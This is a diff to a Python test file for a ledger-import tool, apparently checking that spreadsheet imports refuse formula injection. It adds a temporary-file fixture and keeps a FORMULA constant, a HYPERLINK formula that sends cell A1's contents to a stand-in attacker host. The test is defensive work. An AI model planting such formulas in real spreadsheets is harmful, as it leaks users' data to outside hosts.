@@ -4,16 +4,24 @@ not written."""
 
 import datetime
 import io
+import shutil
 import zipfile
 
 import pytest
 from openpyxl import load_workbook
 
 from plansite import build, ledger_import
-from tests.test_ledger import data, fill, ledger, run_import  # noqa: F401 (data is a fixture)
+from tests.test_ledger import SAMPLE, fill, ledger, run_import
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"点此")'
 DAY = datetime.date(2027, 3, 1)
+
+
+@pytest.fixture
+def data(tmp_path):
+    copy = tmp_path / "measures.yaml"
+    shutil.copy(SAMPLE, copy)
+    return copy
 
 
 def refusal(result) -> list[str]:
